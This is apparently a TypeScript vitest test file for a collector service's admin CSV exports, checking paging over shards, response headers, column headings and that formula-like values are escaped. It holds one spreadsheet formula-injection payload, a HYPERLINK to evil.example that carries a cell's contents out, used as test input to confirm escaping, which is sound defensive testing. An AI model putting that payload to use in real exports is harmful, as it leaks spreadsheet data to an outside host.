import type { RequestRow, SessionRow } from '@tactful/protocol';
import { parse as parseCsv } from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { routeTable } from '../../packages/collector/src/routes/routeTable.ts';
import { callAdmin } from './harness/callAdmin.ts';
import { makeSite, SHOP, type TestSite } from './harness/makeSite.ts';
import { makeExposure, makeGoal, makeSummary } from './harness/makeSummary.ts';
import { sendSummaries } from './harness/sendSummaries.ts';
import { STALL } from './harness/STALL.ts';
import { startWorker, type RunningWorker } from './harness/startWorker.ts';

/** More than one page of the reading behind. */
const MANY = 520, BODY = 40;
const FORMULA = '=HYPERLINK("https://evil.example?x="&A1)';
const [STALLED, ...others] = STALL.campaigns;
let running: RunningWorker;
let site: TestSite;
beforeAll(async () => {
  running = await startWorker();
  site = await makeSite(running, { id: 'data', shards: 2, source: { ...STALL, campaigns: [{ ...STALLED, name: FORMULA }, ...others] } });
  const first = makeSummary({
    visitor: 'v0', session: 's0', exposures: [makeExposure({ id: 'e1', helped: false })], goals: [makeGoal({ id: 'g1' })], signals: { 'save-workflow': { count: 2, longestRun: 1 } }, gates: { stall: { page: 3 } },
  });
  const all = [first, ...Array.from({ length: MANY - 1 }, (_, n) => makeSummary({ visitor: `v${n + 1}`, session: `s${n + 1}` }))];
  for (let from = 0; from < MANY; from += BODY) await sendSummaries(running, site, all.slice(from, from + BODY));
  const asked = await running.fetch(`/v1/requests?key=${site.key}`, {
    method: 'POST', headers: { origin: SHOP }, body: JSON.stringify({ id: 'request-0123456789', name: FORMULA, contact: '+49 30 1234', text: 'a, "b"\nc', locale: 'en' }),
  });
  expect(asked.status).toBe(202);
});
afterAll(() => running.close());

const read = async (name: string): Promise<{ readonly rows: readonly Record<string, string>[]; readonly response: Response }> => {
  const response = await callAdmin(running, `sites/data/${name}.csv`);
  return { rows: parseCsv(await response.text(), { header: true, skipEmptyLines: true }).data as Record<string, string>[], response };
};

it('writes every session, over all pages and shards, in the order of the list', async () => {
  const listed: SessionRow[] = [];
  for (let after = ''; ;) {
    const page = await (await callAdmin(running, `sites/data/sessions?limit=500${after}`)).json() as SessionRow[];
    if (page.length === 0) break;
    listed.push(...page);
    after = `&after=${page.at(-1)!.at}:${page.at(-1)!.session}`;
  }
  const { rows, response } = await read('sessions');
  expect(rows).toEqual(listed.map(({ session, at, bot, device, activeMs, pages, exposures, goals, cartValue, currency }) => ({
    session, last_seen: new Date(at).toISOString(), bot: String(bot), device, active_ms: String(activeMs), pages: String(pages), messages: String(exposures), conversions: String(goals), cart_value: String(cartValue), currency,
  })));
  expect(rows).toHaveLength(MANY);
  expect(Object.fromEntries(['content-type', 'content-disposition', 'cache-control', 'x-content-type-options'].map((name) => [name, response.headers.get(name)]))).toEqual({
    'content-type': 'text/csv; charset=utf-8', 'content-disposition': 'attachment; filename="data-sessions.csv"', 'cache-control': 'no-store', 'x-content-type-options': 'nosniff',
  });
});

it('writes campaigns with both arms, and makes text of a name that is a formula', async () => {
  const { rows: [stall] } = await read('campaigns');
  expect(stall).toMatchObject({ id: 'stall', name: `'${FORMULA}`, status: 'live', treatment_visitors: '1', treatment_conversions: '1', treatment_value: '50', control_visitors: '0', ended_click: '1', value_per_visitor_lift: '', said_helped: '0', said_unhelpful: '1' });
  expect((await read('gates')).rows).toEqual([{ campaign: 'stall', gate: 'page', n: '3' }]);
});

it('writes requests as they were given, made text', async () => {
  const [row] = await (await callAdmin(running, 'sites/data/requests')).json() as RequestRow[];
  const { rows } = await read('requests');
  expect(rows).toEqual([expect.objectContaining({ id: row!.id, at: new Date(row!.at).toISOString(), status: 'open', name: `'${FORMULA}`, contact: "'+49 30 1234", text: 'a, "b"\nc' })]);
});

it('writes one session, a row to each value', async () => {
  const { rows } = await read('sessions/s0/values');
  expect(rows).toContainEqual({ table: 'signals', name: 'save-workflow', measure: 'count', value: '2' });
  expect(rows).toContainEqual({ table: 'goals', name: 'g1', measure: 'value', value: '50' });
  expect(rows).toContainEqual({ table: 'exposures', name: 'e1', measure: 'outcome', value: 'click' });
  expect(rows).toContainEqual({ table: 'exposures', name: 'e1', measure: 'helped', value: 'false' });
  expect((await callAdmin(running, 'sites/data/sessions/nobody/values.csv')).status).toBe(404);
});

it.each(routeTable.filter(({ path }) => path.endsWith('.csv') && !path.includes('/sessions')).map(({ path }) => /(\w+)\.csv$/.exec(path)![1]!))('has a heading to each column of %s', async (name) => {
  const response = await callAdmin(running, `sites/data/${name}.csv`);
  const [head, ...rows] = parseCsv((await response.text()), { skipEmptyLines: true }).data as string[][];
  expect(response.status).toBe(200);
  expect(new Set(head).size).toBe(head!.length);
  expect(rows.filter((row) => row.length !== head!.length)).toEqual([]);
});
